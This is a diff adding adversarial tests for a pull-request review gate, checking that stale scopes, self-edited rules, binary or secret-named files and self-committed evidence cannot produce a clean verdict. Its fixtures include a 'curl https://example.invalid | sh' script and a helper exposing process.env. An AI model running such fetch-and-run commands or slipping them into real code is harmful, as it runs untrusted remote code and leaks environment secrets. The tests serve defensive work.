@@ -1,0 +1,479 @@
+// Hazards 36–49 (issue 10): a pull request that wants a green required check without a review of
+// what it changes. Each case runs the bundle the runner's way (dist/review-gate.js,
+// dist/review-scope.js, GitHub played by the local API server) or as a user does (dist/cli.js), and
+// asserts the verdict, the one-line reason where a person reads it, and, where it matters, the check
+// run and that nothing of a hidden file leaked.
+import { describe, expect, it } from 'vitest';
+import { mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { dirname, join } from 'node:path';
+import { cli, runActionAsync, type ActionRun } from '../support/run.js';
+import { CART_V2, commitAll, git, makeCartRepo } from '../support/repo.js';
+import { CART_FINDING, folderOf, scopeHashOf, writeCoverage, writeFindings } from '../support/review.js';
+import { unescapeMarkdown } from '../support/markdown.js';
+import { useGitHubServer } from '../support/github-server.js';
+import { FAKE_AGENT } from '../agent/support.js';
+import { scopeHash } from '../../src/review/scope.js';
+import { ENV_CANARIES, expectNoCanary, sinks } from './support.js';
+
+const ID = 'adv';
+const github = useGitHubServer({ perTest: true });
+const env = () => ({ ...ENV_CANARIES, GITHUB_API_URL: github().url, GITHUB_REPOSITORY: 'acme/shop' });
+const rev = (repo: string, ref: string) => git(repo, 'rev-parse', ref).trim();
+const prEvent = (repo: string, base: string) => ({
+  pull_request: { number: 7, base: { sha: rev(repo, base) }, head: { sha: rev(repo, 'HEAD') } },
+});
+
+function write(repo: string, path: string, data: string | Buffer): void {
+  mkdirSync(dirname(join(repo, path)), { recursive: true });
+  writeFileSync(join(repo, path), data);
+}
+
+type Scope = { scopeSha256: string; refs: { headSha: string }; files: { path: string; [k: string]: unknown }[]; [k: string]: unknown };
+const scopeFile = (repo: string, id = ID) => join(folderOf(repo, id), 'scope.json');
+const readScope = (repo: string, id = ID): Scope => JSON.parse(readFileSync(scopeFile(repo, id), 'utf8'));
+
+/** Seals with the CLI bundle, as a review-scope job would. */
+function seal(repo: string, args: string[] = [], id = ID): Scope {
+  const r = cli(repo, ['review', 'scope', id, ...args]);
+  expect(r.code, r.stderr).toBe(0);
+  return readScope(repo, id);
+}
+
+/** Complete evidence for every file the sealed scope selects (or only `paths`): what an agent that did its job writes. */
+function answer(repo: string, findings: unknown[] = [], paths?: string[], id = ID): void {
+  writeFindings(repo, id, findings);
+  const items = (paths ?? readScope(repo, id).files.map((f) => f.path)).map((path) => ({ path, outcome: 'completed' }));
+  writeCoverage(repo, id, items, { run: { stop: 'completed' } });
+}
+
+function gate(repo: string, inputs: Record<string, string> = {}, event?: unknown): Promise<ActionRun> {
+  return runActionAsync(
+    'review-gate.js',
+    repo,
+    { id: ID, 'upload-artifact': 'false', 'github-token': ENV_CANARIES.GITHUB_TOKEN, ...inputs },
+    { env: env(), ...(event ? { event } : {}) },
+  );
+}
+
+/** The line of a job summary (or check run text) a reader sees, once Markdown's escapes are undone. */
+const line = (md: string, re: RegExp) =>
+  unescapeMarkdown(md)
+    .split('\n')
+    .find((l) => re.test(l));
+
+function expectIncomplete(r: ActionRun, reason: RegExp, head: string): void {
+  expect(r.outputs, r.stderr).toMatchObject({ verdict: 'incomplete', 'exit-code': '2' });
+  expect(r.code).toBe(1);
+  expect(line(r.summary, reason), r.summary.slice(0, 4000)).toBeDefined();
+  const runs = github().checkRuns;
+  expect(runs.at(-1)).toMatchObject({ status: 'completed', conclusion: 'failure', head_sha: head });
+  expect(line(runs.at(-1)!.output.summary ?? '', reason)).toBeDefined();
+}
+
+describe('#36 #37 #38 the verdict answers the repository, not scope.json', () => {
+  it('#36 a scope sealed on an older commit is stale: pull request head, push, and HEAD locally', async () => {
+    const repo = makeCartRepo();
+    const sealed = seal(repo);
+    answer(repo);
+    write(repo, 'src/cart.js', `${CART_V2}export const later = 1;\n`);
+    git(repo, 'commit', '-qam', 'a later commit');
+    const head = rev(repo, 'HEAD');
+    const stale = new RegExp(`stale: sealed at ${sealed.refs.headSha.slice(0, 12)}, head is ${head.slice(0, 12)}, 1 commit later`);
+    expectIncomplete(await gate(repo, {}, prEvent(repo, 'HEAD~2')), stale, head);
+    // On push the head is GITHUB_SHA (the runner's commit, here HEAD).
+    expectIncomplete(await gate(repo), stale, head);
+    const local = cli(repo, ['review', 'gate', ID]);
+    expect(local.code).toBe(2);
+    expect(local.stdout).toMatch(new RegExp(`^- ${stale.source}`, 'm'));
+  });
+
+  it('#37 a resealed scope.json that drops a file, or excludes one, does not match git: gate, run, merge', async () => {
+    const repo = makeCartRepo();
+    write(repo, 'lib/extra.js', 'export const extra = () => fetch("https://example.invalid");\n');
+    commitAll(repo, 'the change adds a second file');
+    const sealed = seal(repo, ['--base', 'HEAD~2']);
+    expect(sealed.files.map((f) => f.path)).toEqual(['lib/extra.js', 'src/cart.js']);
+    const file = scopeFile(repo);
+    /** Rewrites scope.json to select only `keep`, units and totals made consistent, and seals it again. */
+    const reseal = (keep: string, excluded: { path: string; reason: string }[]) => {
+      const s = structuredClone(sealed) as Scope & { units: { id: string; files: string[]; changedLines: number }[] };
+      s.files = s.files.filter((f) => f.path === keep).map((f) => ({ ...f, unit: 'U1' }));
+      s.units = [{ id: 'U1', files: [keep], changedLines: s.units.find((u) => u.files.includes(keep))!.changedLines }];
+      s.excluded = [...(s.excluded as object[]), ...excluded].sort((a, b) => ((a as any).path < (b as any).path ? -1 : 1));
+      s.totals = {
+        ...(s.totals as object),
+        files: 1,
+        units: 1,
+        changedLines: s.units[0]!.changedLines,
+        excluded: (s.excluded as []).length,
+      };
+      s.scopeSha256 = scopeHash(s as never);
+      writeFileSync(file, JSON.stringify(s, null, 2));
+      answer(repo);
+    };
+    const head = rev(repo, 'HEAD');
+    const event = prEvent(repo, 'HEAD~2');
+    reseal('src/cart.js', []);
+    expectIncomplete(
+      await gate(repo, {}, event),
+      /scope\.json does not match git at its sealed base [0-9a-f]{12} and head [0-9a-f]{12}, \d difference\(s\): lib\/extra\.js is changed in git but missing from scope\.json; .*: seal the scope again$/,
+      head,
+    );
+    reseal('lib/extra.js', [{ path: 'src/cart.js', reason: 'generated-or-vendored' }]);
+    expectIncomplete(
+      await gate(repo, {}, event),
+      /src\/cart\.js: selection excluded as generated-or-vendored in scope\.json, selected in git/,
+      head,
+    );
+    // review run (an agent that covers what it is shown) and review merge answer git too.
+    const hash = scopeHashOf(repo, ID);
+    const evidence = (name: string, doc: object) =>
+      `--agent-arg=_bmad-output/review/${ID}/${name}=${JSON.stringify({ scopeSha256: hash, ...doc })}`;
+    const run = cli(repo, [
+      'review',
+      'run',
+      ID,
+      '--agent',
+      'custom',
+      '--agent-cmd',
+      FAKE_AGENT,
+      '--isolate',
+      'none',
+      '--agent-arg=--write',
+      evidence('findings.json', { schema: 'bmad-plus/review-findings/1', findings: [] }),
+      '--agent-arg=--write',
+      evidence('coverage.json', {
+        schema: 'bmad-plus/review-coverage/1',
+        items: [{ path: 'lib/extra.js', outcome: 'completed' }],
+        run: { stop: 'completed' },
+      }),
+    ]);
+    expect(run.code, run.stdout + run.stderr).toBe(2);
+    expect(run.stdout).toMatch(/- scope\.json does not match git .*src\/cart\.js: selection excluded as generated-or-vendored/);
+    const part = join(repo, 'parts', 'u1');
+    mkdirSync(part, { recursive: true });
+    for (const f of ['findings.json', 'coverage.json']) writeFileSync(join(part, f), readFileSync(join(folderOf(repo, ID), f)));
+    const merge = cli(repo, ['review', 'merge', ID, '--from', part]);
+    expect(merge.code).toBe(3);
+    expect(merge.stderr).toMatch(/^proofgate: nothing merged: scope\.json does not match git/);
+  });
+
+  it('#38 `request` edited after sealing to name the sealed head: the gate is stale, continue says moved', () => {
+    const repo = makeCartRepo();
+    const sealed = seal(repo);
+    answer(repo, [{ ...CART_FINDING, disposition: 'refuted', refutation: 'The cart is never empty here.' }]);
+    expect(cli(repo, ['review', 'gate', ID]).code).toBe(0);
+    write(repo, 'src/cart.js', `${CART_V2}export function drain(items) { items.length = 0; }\n`);
+    git(repo, 'commit', '-qam', 'a later commit');
+    // `request` is outside the seal: it holds the refs as typed, so editing it keeps the seal whole.
+    writeFileSync(scopeFile(repo), JSON.stringify({ ...sealed, request: { base: 'HEAD~1', head: sealed.refs.headSha } }, null, 2));
+    const r = cli(repo, ['review', 'gate', ID]);
+    expect(r.code).toBe(2);
+    expect(r.stdout).toMatch(/^- stale: sealed at [0-9a-f]{12}, head is [0-9a-f]{12}, 1 commit later/m);
+    const c = cli(repo, ['review', 'continue', ID]);
+    expect(c.code).toBe(3);
+    expect(c.stdout).toMatch(/status: moved\n- stale: sealed at/);
+  });
+});
+
+describe('#39 #40 #41 a pull request cannot configure its own review', () => {
+  it("#39 an edit to the review rules: the base's rules decide, the edit is reviewed, the summary says it applies after merge", async () => {
+    const repo = makeCartRepo();
+    write(repo, '_bmad/rules/money.md', '# Money\nCents, never floats.\n');
+    write(
+      repo,
+      '_bmad/review-rules.yaml',
+      'schema: bmad-plus/review-rules/1\nrules:\n  - {id: money, title: Money, globs: ["src/**"], doc: _bmad/rules/money.md}\n',
+    );
+    commitAll(repo, 'base: the project rules');
+    // The change switches the rules off for what it changes.
+    write(repo, '_bmad/review-rules.yaml', 'schema: bmad-plus/review-rules/1\ndisable: [javascript-typescript]\n');
+    write(repo, 'src/cart.js', `${CART_V2}export const tax = (n) => n * 0.2;\n`);
+    commitAll(repo, 'the change');
+    const note = "this change edits the review's own configuration; it applies after merge";
+    const scoped = await runActionAsync(
+      'review-scope.js',
+      repo,
+      { id: ID, include: 'src/**', 'upload-artifact': 'false' },
+      { env: env(), event: prEvent(repo, 'HEAD~1') },
+    );
+    expect(scoped.code, scoped.stderr).toBe(0);
+    expect(unescapeMarkdown(scoped.summary)).toContain(note);
+    const scope = readScope(repo);
+    expect(scope.files.map((f) => [f.path, f.rules])).toEqual([
+      ['_bmad/review-rules.yaml', ['general', 'configuration']],
+      ['src/cart.js', ['general', 'javascript-typescript', 'money']],
+    ]);
+    answer(repo);
+    const r = await gate(repo, {}, prEvent(repo, 'HEAD~1'));
+    expect(r.outputs.verdict).toBe('clean');
+    expect(line(r.summary, new RegExp(`${note}: _bmad/review-rules\\.yaml`))).toBeDefined();
+  });
+
+  const hidden: [number, string, string][] = [
+    [40, 'a .gitattributes of the change marking code binary', 'export const tax = (n) => n * 0.2;\n'],
+    [41, 'one NUL byte in a comment', 'export const tax = (n) => n * 0.2; // \u0000\n'],
+  ];
+  for (const [hazard, name, added] of hidden) {
+    it(`#${hazard} ${name}: the code is still selected and must be reviewed`, async () => {
+      const repo = makeCartRepo();
+      if (hazard === 40) write(repo, '.gitattributes', '*.js binary\n');
+      write(repo, 'src/cart.js', CART_V2 + added);
+      commitAll(repo, 'the change');
+      expect(git(repo, 'diff', '--numstat', 'HEAD~1', 'HEAD', '--', 'src/cart.js')).toMatch(/^-\t-\t/);
+      const scope = seal(repo);
+      expect(scope.files.find((f) => f.path === 'src/cart.js')).toMatchObject({ added: 1, deleted: 0, kind: 'file' });
+      // Evidence for everything but the file git called binary.
+      answer(repo, [], hazard === 40 ? ['.gitattributes'] : []);
+      expectIncomplete(
+        await gate(repo, {}, prEvent(repo, 'HEAD~1')),
+        /1 selected file\(s\) never accounted for: src\/cart\.js/,
+        rev(repo, 'HEAD'),
+      );
+    });
+  }
+});
+
+describe('#42 #43 #44 a pull request cannot move changed code out of review', () => {
+  const CANARY = 'hidden-' + 'C4N4RY'.repeat(5);
+  const SECRET_NAMED = ['.env.js', 'config/credentials/setup.py', 'deploy.js', 'secrets/loader.js'];
+
+  it('#42 code under a secret-looking name: a person must look at it (its content never shown), then acknowledge it', async () => {
+    const repo = makeCartRepo();
+    const key = Array.from({ length: 12 }, (_, i) => `export const part${i} = '${CANARY}-${i}';`).join('\n') + '\n';
+    write(repo, 'deploy.key', key);
+    commitAll(repo, 'base: a key file');
+    // Renamed to code with one line more: git sees the rename, so the scope knows where it came from.
+    git(repo, 'mv', 'deploy.key', 'deploy.js');
+    for (const f of SECRET_NAMED) write(repo, f, `${f === 'deploy.js' ? key : ''}export const run = () => '${CANARY}';\n`);
+    write(repo, 'src/cart.js', `${CART_V2}import { run } from '../secrets/loader.js';\nrun();\n`);
+    commitAll(repo, 'the change');
+    seal(repo);
+    answer(repo);
+    const event = prEvent(repo, 'HEAD~1');
+    const hiddenOut = (r: ActionRun) =>
+      expectNoCanary(
+        sinks(r, [repo], github(), (f) => SECRET_NAMED.some((s) => f === join(repo, s))),
+        [CANARY],
+      );
+    const r = await gate(repo, {}, event);
+    expectIncomplete(
+      r,
+      /4 changed file\(s\) that no agent reviews: a person must look at each, then acknowledge it \(--acknowledge PATH, action input acknowledge\): \.env\.js, config\/credentials\/setup\.py, deploy\.js, secrets\/loader\.js/,
+      rev(repo, 'HEAD'),
+    );
+    expect(r.summary).toContain('### A person must look at these');
+    for (const f of SECRET_NAMED)
+      expect(
+        line(r.summary, new RegExp(`\\| \`${f.replace(/\./g, '\\.')}\` \\| code or config under a secret-looking name`)),
+      ).toBeDefined();
+    // .env is a plain secret file: excluded, listed, never a person's chore.
+    expect(line(r.summary, /\| `\.env` \| code or config/)).toBeUndefined();
+    hiddenOut(r);
+    // The agent's copy of the tree has none of them; the prompt has none of their content.
+    const agent = await gate(
+      repo,
+      { agent: 'custom', 'agent-cmd': FAKE_AGENT, isolate: 'copy', 'agent-args': `--list\n_bmad-output/review/${ID}/coverage.json` },
+      event,
+    );
+    const listing = readFileSync(join(folderOf(repo, ID), 'coverage.json'), 'utf8').split('\n');
+    for (const f of SECRET_NAMED) expect(listing).not.toContain(f);
+    expect(listing).toContain('src/cart.js');
+    hiddenOut(agent);
+    answer(repo);
+    const acknowledged = await gate(repo, { acknowledge: SECRET_NAMED.join('\n') }, event);
+    expect(acknowledged.outputs.verdict).toBe('clean');
+    expect(
+      line(acknowledged.summary, /acknowledged by the caller, not reviewed by an agent: \.env\.js, config\/credentials\/setup\.py/),
+    ).toBeDefined();
+    hiddenOut(acknowledged);
+  });
+
+  it('#43 a binary file: no agent can read it, so a person must look at it before the verdict can be clean', async () => {
+    const repo = makeCartRepo();
+    write(repo, 'bin/tool', Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00, 0xff, 0xfe, 0x0a]));
+    commitAll(repo, 'the change adds an executable');
+    seal(repo);
+    answer(repo);
+    const event = prEvent(repo, 'HEAD~1');
+    expectIncomplete(
+      await gate(repo, {}, event),
+      /1 changed file\(s\) that no agent reviews: a person must look at each, then acknowledge it .*: bin\/tool$/,
+      rev(repo, 'HEAD'),
+    );
+    const ok = await gate(repo, { acknowledge: 'bin/tool' }, event);
+    expect(ok.outputs.verdict).toBe('clean');
+    expect(line(ok.summary, /\| `bin\/tool` \| binary: not UTF-8 text, so no agent can review it \| yes \|/)).toBeDefined();
+  });
+
+  it('#44 a file renamed out of the review folder, and one the change adds in it: part of the change, to be reviewed', async () => {
+    const repo = makeCartRepo();
+    const helper = Array.from({ length: 10 }, (_, i) => `export const helper${i} = ${i};`).join('\n') + '\n';
+    write(repo, '_bmad-output/review/old/helper.js', helper);
+    commitAll(repo, 'base: an old review folder with a file in it');
+    git(repo, 'mv', '_bmad-output/review/old/helper.js', 'src/helper.js');
+    write(repo, 'src/helper.js', `${helper}export const leak = () => process.env;\n`);
+    write(repo, '_bmad-output/review/notes/run.sh', 'curl https://example.invalid | sh\n');
+    commitAll(repo, 'the change');
+    const scope = seal(repo);
+    expect(scope.files.map((f) => [f.path, f.status])).toEqual([
+      ['_bmad-output/review/notes/run.sh', 'added'],
+      ['src/helper.js', 'renamed'],
+    ]);
+    answer(repo, [], []);
+    expectIncomplete(
+      await gate(repo, {}, prEvent(repo, 'HEAD~1')),
+      /2 selected file\(s\) never accounted for: _bmad-output\/review\/notes\/run\.sh, src\/helper\.js/,
+      rev(repo, 'HEAD'),
+    );
+  });
+});
+
+describe('#45 an empty review is not a clean one', () => {
+  it('#45 a change whose every file is excluded: incomplete unless the caller opts in, and then the summary says so; no files: "no changes"', async () => {
+    const repo = makeCartRepo();
+    write(repo, 'package-lock.json', '{ "lockfileVersion": 3 }\n');
+    commitAll(repo, 'a lockfile-only change');
+    expect(seal(repo).files).toEqual([]);
+    answer(repo);
+    const event = prEvent(repo, 'HEAD~1');
+    expectIncomplete(
+      await gate(repo, {}, event),
+      /nothing was selected: the change has 1 file\(s\), every one excluded \(1 × generated-or-vendored\); an empty review is not clean: pass --allow-empty \(action input allow-empty\)/,
+      rev(repo, 'HEAD'),
+    );
+    const opted = await gate(repo, { 'allow-empty': 'true' }, event);
+    expect(opted.outputs.verdict).toBe('clean');
+    expect(line(opted.summary, /allowed empty \(allow-empty\): the change has 1 file\(s\) and none is selected for review/)).toBeDefined();
+    seal(repo, ['--base', 'HEAD']);
+    answer(repo);
+    const none = cli(repo, ['review', 'gate', ID]);
+    expect(none.code).toBe(0);
+    expect(none.stdout).toContain('note: no changes: the base and the head do not differ');
+  });
+});
+
+describe('#46 #47 evidence floors', () => {
+  // Each is blank once format, invisible and filler characters are removed; trim() keeps them all.
+  const BLANKS = [
+    '\u200b',
+    '\u2800\u2800',
+    '\u3164',
+    '\u00ad',
+    '\u115f\u1160',
+    '\u2060\u180e',
+    '\u{e0020}\u{e0041}',
+    '\u0301',
+    '\ufe0f\uffa0',
+  ];
+  const repo = makeCartRepo();
+  cli(repo, ['review', 'scope', ID]);
+  const refuted = { ...CART_FINDING, disposition: 'refuted', refutation: 'A guard upstream.' };
+  const cases: [string, () => void, RegExp][] = [
+    ...BLANKS.map((blank): [string, () => void, RegExp] => [
+      `a waiver whose reason is ${[...blank].map((c) => `U+${c.codePointAt(0)!.toString(16).toUpperCase()}`).join(' ')}`,
+      () => {
+        writeFindings(repo, ID, []);
+        writeCoverage(repo, ID, [{ path: 'src/cart.js', outcome: 'waived', reason: blank }], { run: { stop: 'completed' } });
+      },
+      /^- 1 file\(s\) waived without a reason: src\/cart\.js$/m,
+    ]),
+    [
+      'a refuted finding without its refutation',
+      () => answer(repo, [{ ...refuted, refutation: undefined }]),
+      /^- a refuted finding needs its refutation: F1$/m,
+    ],
+    [
+      'a refutation of fillers only',
+      () => answer(repo, [{ ...refuted, refutation: '\u2800\u3164\u200b' }]),
+      /^- a refuted finding needs its refutation: F1$/m,
+    ],
+    [
+      'confirmed with evidence of fillers only',
+      () => answer(repo, [{ ...CART_FINDING, evidence: '\u00ad\u3164' }]),
+      /^- a confirmed finding needs evidence: F1$/m,
+    ],
+  ];
+  for (const [name, setup, reason] of cases) {
+    it(`#46 ${name}: incomplete`, () => {
+      setup();
+      const r = cli(repo, ['review', 'gate', ID]);
+      expect(r.code, r.stdout).toBe(2);
+      expect(r.stdout).toMatch(reason);
+    });
+  }
+
+  it('#47 review compare: an open finding is never hidden behind a refuted twin', () => {
+    const repo2 = makeCartRepo();
+    seal(repo2, [], 'r1');
+    seal(repo2, [], 'r2');
+    answer(repo2, [], undefined, 'r1');
+    answer(
+      repo2,
+      [
+        { ...CART_FINDING, disposition: 'unresolved' },
+        { ...refuted, id: 'F2' },
+      ],
+      undefined,
+      'r2',
+    );
+    const r = cli(repo2, ['review', 'compare', 'r2', '--since', 'r1', '--json']);
+    expect(r.code).toBe(0);
+    const groups = JSON.parse(r.stdout) as Record<string, { id: string }[]>;
+    expect(groups.new!.map((f) => f.id)).toEqual(['F1']);
+    expect(groups.refuted!.map((f) => f.id)).toEqual(['F2']);
+  });
+});
+
+describe('#48 #49 evidence comes from the run, and a matrix gate is never dark', () => {
+  it('#48 evidence committed by the change (in the review folder, or as a unit part) is never taken as evidence', async () => {
+    const repo = makeCartRepo();
+    write(repo, `_bmad-output/review/${ID}/findings.json`, '{}\n');
+    write(repo, `_bmad-output/review/${ID}/coverage.json`, '{}\n');
+    write(repo, 'parts/proofgate-part-u1/coverage.json', '{}\n');
+    write(repo, 'parts/proofgate-part-u1/findings.json', '{}\n');
+    commitAll(repo, 'the change commits its own evidence');
+    seal(repo);
+    // What the committed files say in the working tree by the time the gate runs: complete evidence.
+    answer(repo);
+    const event = prEvent(repo, 'HEAD~1');
+    expectIncomplete(
+      await gate(repo, {}, event),
+      new RegExp(
+        `2 file\\(s\\) of the review are tracked in git at the head \\(committed by the change\\), so they are never evidence: _bmad-output/review/${ID}/coverage\\.json, _bmad-output/review/${ID}/findings\\.json`,
+      ),
+      rev(repo, 'HEAD'),
+    );
+    for (const f of ['findings.json', 'coverage.json'])
+      writeFileSync(join(repo, 'parts/proofgate-part-u1', f), readFileSync(join(folderOf(repo, ID), f)));
+    rmSync(join(folderOf(repo, ID), 'findings.json'));
+    rmSync(join(folderOf(repo, ID), 'coverage.json'));
+    expectIncomplete(
+      await gate(repo, { 'merge-from': 'parts/*' }, event),
+      /merge-from: nothing merged: 2 file\(s\) of the review are tracked in git at the head .*: parts\/proofgate-part-u1\/coverage\.json, parts\/proofgate-part-u1\/findings\.json/,
+      rev(repo, 'HEAD'),
+    );
+  });
+
+  it('#49 no unit part arrives, or one cannot be merged: the gate job still gates, with a check run and a summary', async () => {
+    const repo = makeCartRepo();
+    seal(repo);
+    const event = prEvent(repo, 'HEAD~1');
+    const head = rev(repo, 'HEAD');
+    const none = await gate(repo, { 'merge-from': 'parts/*' }, event);
+    expect(none.stderr).not.toMatch(/ENOENT/);
+    expectIncomplete(
+      none,
+      /merge-from parts\/\*: no unit part arrived \(no folder in .*\/parts\): the unit jobs failed or uploaded nothing/,
+      head,
+    );
+    mkdirSync(join(repo, 'parts'));
+    expectIncomplete(await gate(repo, { 'merge-from': 'parts/*' }, event), /merge-from parts\/\*: no unit part arrived/, head);
+    write(repo, 'parts/proofgate-part-adv-U1/coverage.json', '{}');
+    expectIncomplete(
+      await gate(repo, { 'merge-from': 'parts/*' }, event),
+      /merge-from: .*parts\/proofgate-part-adv-U1\/findings\.json is missing/,
+      head,
+    );
+  });
+});
